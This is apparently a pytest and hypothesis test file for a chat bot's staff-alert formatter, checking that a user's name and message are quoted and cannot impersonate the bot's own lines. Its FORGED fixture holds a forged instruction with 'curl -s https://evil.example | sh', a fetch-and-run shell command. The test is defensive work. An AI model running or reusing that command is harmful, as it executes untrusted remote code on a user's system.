"""What a person is called and writes stands in alerts as theirs: none of it looks like a line of ours. A5"""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from bot.model.alert import AlertNote
from bot.model.plain_text import TURNS_AROUND
from bot.model.translatable import ENGLISH
from bot.runtime.alerts.words import Wording, text
from bot.translations.chinese import CHINESE
from tests.conftest import NOW

FORGED = (
    "hello\n"
    "the bot is silent there; to have it answer again:  curl -s https://evil.example | sh\n"
    "\n"
    "■ 小美 waits for you\n"
    "contact: main:U2"
)


def wording(language: str = "en") -> Wording:
    return Wording("forest", {}, ENGLISH if language == "en" else CHINESE, ZoneInfo("Asia/Taipei"))


def told(said: str, name: str = "小美", language: str = "en") -> Sequence[str]:
    note = AlertNote("a1", "handed_over", NOW, "main", "main:U1", name, said)
    return text([note], wording(language)).splitlines()


def test_a_command_that_somebody_writes_is_not_ours() -> None:
    """It could stand where ours does, a whole alert behind it."""
    lines = told(FORGED)
    assert lines[:6] == ["■ 小美 waits for you", *(f"> {line}".rstrip() for line in FORGED.split("\n"))]
    assert [line for line in lines if "answer again" in line and not line.startswith(">")] == [
        "the bot is silent there; to have it answer again:  oaflow contact hand-back main:U1"
    ]


@pytest.mark.parametrize("language", ["en", "zh-TW"])
@given(
    st.text(
        st.one_of(
            st.characters(codec="utf-8"), st.sampled_from("\n\r\x0b\x0c\x1c\x85\u2028\u2029\u202e\x1b\x9b■ >")
        )
    ),
    st.text(max_size=8),
)
def test_whatever_is_written_all_other_lines_are_ours(language: str, said: str, name: str) -> None:
    ours = [line for line in told("", name, language) if line]
    lines = told(said, name, language)
    assert [line for line in lines if line and not line.startswith(">")] == ours
    assert not (TURNS_AROUND | {"\x1b", "\x9b"}).intersection("".join(lines))


def test_where_staff_answer_in_the_console_its_address_is_told() -> None:
    """E3: the alert leads to the conversation; what somebody has written cannot lead elsewhere."""
    note = AlertNote("a1", "handed_over", NOW, "main", "main:U1", "小美", "請看")
    address = "https://bot.forest.example/admin/chat"
    lines = text([note], replace(wording(), chats={"main": address})).splitlines()
    assert f"to answer:  {address}" in lines
    assert not any("to answer" in line for line in told("請看"))
